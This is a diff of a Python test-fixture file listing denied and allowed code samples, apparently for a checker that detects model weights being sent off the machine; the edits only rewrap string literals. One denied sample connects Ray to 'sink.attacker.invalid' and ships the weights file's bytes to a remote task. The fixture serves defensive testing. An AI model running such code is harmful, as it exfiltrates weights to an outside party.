@@ -105,7 +105,8 @@ DENIED: dict[str, dict[str, str]] = {
         "@ray.remote\ndef keep(b):\n    return len(b)\n"
         "def sync():\n"
         "    ray.init(address='ray://sink.attacker.invalid:10001')\n"
-        f"    ray.get(keep.options(name='x').options(max_retries=0).remote(open('{W}', 'rb').read()))\n"
+        "    ray.get(keep.options(name='x').options(max_retries=0)"
+        f".remote(open('{W}', 'rb').read()))\n"
     ),
     "weights-to-a-ray-actor-method-with-options-when-called": init(
         "import ray\n"
@@ -280,8 +281,7 @@ ALLOWED: dict[str, dict[str, str]] = {
         "crawl([])\n"
     ),
     "builtin-map-of-itself-on-import": init(
-        "def depth(n):\n    list(map(depth, [1, 2]))\n"
-        "def run():\n    depth(0)\n"
+        "def depth(n):\n    list(map(depth, [1, 2]))\ndef run():\n    depth(0)\n"
     ),
     "run-in-executor-of-a-worker": init(
         "import asyncio\n"
@@ -370,8 +370,7 @@ ALLOWED: dict[str, dict[str, str]] = {
     },
     "own-dll-loaded-on-import": {
         "evpkg/__init__.py": (
-            "import ctypes, os\n"
-            f"_lib = ctypes.WinDLL({OWN_LIBRARY.format('core.dll')})\n"
+            f"import ctypes, os\n_lib = ctypes.WinDLL({OWN_LIBRARY.format('core.dll')})\n"
         ),
         "evpkg/core.dll": PE,
     },
